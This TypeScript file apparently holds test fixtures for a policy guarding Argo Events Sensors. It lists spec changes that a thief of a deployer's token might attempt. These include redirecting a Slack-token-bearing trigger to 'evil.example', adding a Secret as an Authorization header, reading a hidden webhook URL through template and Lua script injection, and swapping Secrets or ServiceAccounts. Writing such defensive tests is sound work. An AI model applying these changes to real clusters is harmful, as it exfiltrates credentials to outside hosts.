/** A Sensor with any fields. */
export interface OpenObject {
  readonly apiVersion: string;
  readonly kind: string;
  readonly metadata: { readonly name: string };
  readonly spec: Spec;
}

export interface Spec {
  readonly template: { readonly container: { readonly env?: readonly object[] } };
  readonly triggers: readonly { readonly template: { readonly http: Http } }[];
}

interface Http {
  readonly url: string;
  readonly parameters?: readonly object[];
}

/** A Sensor with the requests of one receiver, of which these fields are changed. */
const changed = (url: RegExp, change: object | ((http: Http) => object)) => (spec: Spec) => ({
  ...spec,
  triggers: spec.triggers
    .filter(({ template }) => url.test(template.http.url))
    .map((trigger) => {
      const { http } = trigger.template;
      const more = typeof change === "function" ? change(http) : change;
      return { ...trigger, template: { ...trigger.template, http: { ...http, ...more } } };
    }),
});
export const slack = (change: object) => changed(/slack\.com/, change);
export const hidden = (change: object | ((http: Http) => object)) => changed(/hidden/, change);
const src = { dependencyName: "route_edge_0" };
const message = (by: object) => slack({ payload: [{ src: { ...src, ...by }, dest: "text" }] });
const address = (by: object) => ({ parameters: [{ src: { ...src, ...by }, dest: "url" }] });
/** A Sensor of which all triggers have these fields too. */
const triggers = (more: object) => (spec: Spec) => ({
  ...spec,
  triggers: spec.triggers.map((trigger) => ({ ...trigger, ...more })),
});
const SECRET = { valueFrom: { secretKeyRef: { name: "github-00", key: "nginx" } } };

/** Changes that a thief of the deployer's token might make. Each name completes "let the deployer not …". */
export const CHANGES: Readonly<Record<string, (spec: Spec) => object>> = {
  "send the Slack token elsewhere": slack({ url: "https://evil.example" }),
  "send the Slack token to another receiver": slack({ url: "https://pager.acme.example" }),
  "send another Secret to a receiver": slack({ secureHeaders: [{ name: "Authorization", ...SECRET }] }),
  "change an address by a parameter": slack(address({ value: "https://evil.example" })),
  "take a hidden address from an Event": hidden(address({ dataTemplate: "{{ .Input.body.message }}" })),
  "write a hidden address into a message": message({ dataTemplate: '{{ env "URL_WEBHOOK_EDGE" }}' }),
  "write it by another function": message({ dataTemplate: "{{$x := (expandenv `$URL_WEBHOOK_EDGE`)}}" }),
  "write it after an assignment": message({ dataTemplate: '{{$x:=env "URL_WEBHOOK_EDGE"}}{{$x}}' }),
  "write it by a template over the Event's context": message({
    contextTemplate: '{{ env "URL_WEBHOOK_EDGE" }}',
  }),
  "use an address of its own where an Event is missing": hidden(({ parameters }: Http) => ({
    parameters: parameters?.map((one) => {
      const { src: own, dest } = one as { src: object; dest: string };
      return { src: { ...own, dependencyName: "other", value: "https://evil.example" }, dest };
    }),
  })),
  "change a request when an Event comes": triggers({
    parameters: [{ src: { ...src, value: "https://evil.example" }, dest: "http.url" }],
  }),
  "trigger something else after a failure": triggers({ dlqTrigger: { template: { name: "x" } } }),
  ...Object.fromEntries(
    [
      { transform: { script: "event.body = os.getenv('URL_WEBHOOK_EDGE') return event" } },
      { filters: { script: "return os.getenv('URL_WEBHOOK_EDGE') ~= ''" } },
      {
        filters: {
          data: [{ path: "body", type: "string", value: ["x"], template: '{{ env "URL_WEBHOOK_EDGE" }}' }],
        },
      },
    ].map((more) => [
      `read it by ${JSON.stringify(more)}`,
      (spec: Spec) => ({
        ...spec,
        dependencies: [{ name: "x", eventSourceName: "notify", eventName: "kargo", ...more }],
      }),
    ]),
  ),
  "give the pod another Secret": ({ template, ...spec }: Spec) => ({
    ...spec,
    template: { ...template, container: { ...template.container, env: [{ name: "X", ...SECRET }] } },
  }),
  "give the pod another ServiceAccount": ({ template, ...spec }: Spec) => ({
    ...spec,
    template: { ...template, serviceAccountName: "kargo-fleet-sensor" },
  }),
  "trigger something else": (spec: Spec) => ({ ...spec, triggers: [{ template: { name: "x", log: {} } }] }),
};
